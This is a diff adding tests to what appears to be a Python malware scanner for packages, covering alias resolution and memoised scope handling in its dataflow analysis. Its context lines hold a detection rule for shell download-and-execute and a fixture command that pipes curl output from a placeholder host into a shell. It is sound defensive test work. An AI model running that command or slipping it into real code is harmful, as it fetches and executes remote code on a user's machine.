@@ -121,6 +121,47 @@ def test_alias_import_and_getattr_import_are_resolved() -> None:
     assert "intent.shell-download-execute" in rules_of({"demo/__init__.py": src2})
 
 
+def test_a_name_resolves_to_what_it_is_bound_to_where_it_is_read() -> None:
+    """Resolutions are memoised per node; binding an alias or entering a scope makes them stale.
+    ``run``'s body is first resolved at module scope (the search for functions that run their
+    parameter), where ``o`` names nothing; inside ``run``, ``o`` is ``os``."""
+    from pipvet.core.analysis.facts.python_ast import collect
+
+    src = textwrap.dedent(
+        """
+        def run(cmd):
+            import os as o
+            o.system(cmd)
+        import subprocess as o
+        o.call("ls")
+        """
+    )
+    facts = collect(src)
+    assert facts is not None
+    assert [(c.line, c.name) for c in facts.calls] == [(4, "os.system"), (6, "subprocess.call")]
+
+
+def test_memoised_resolution_follows_alias_bindings_and_scope_changes() -> None:
+    import ast
+
+    from pipvet.core.analysis.facts.dataflow import Folder, Scope
+
+    module = Scope()
+    folder = Folder(module)
+    call = ast.parse("s(x)").body[0].value  # type: ignore[attr-defined]
+    assert folder.resolve(call.func) is None
+    module.aliases["s"] = "os.system"
+    assert folder.resolve(call.func) is None  # not said: the memo answers (the contract)
+    folder.aliases_changed()
+    assert folder.resolve(call.func) == "os.system"
+    inner = Scope(module)
+    inner.aliases["s"] = "subprocess.call"
+    folder.scope = inner  # entering a function's scope
+    assert folder.resolve(call.func) == "subprocess.call"
+    folder.scope = module
+    assert folder.resolve(call.func) == "os.system"
+
+
 def test_chr_joined_code_reaching_exec_is_unfolded_and_analysed() -> None:
     code = "import os;os.system('curl http://example.invalid/a|sh')"
     ints = ",".join(str(ord(c)) for c in code)
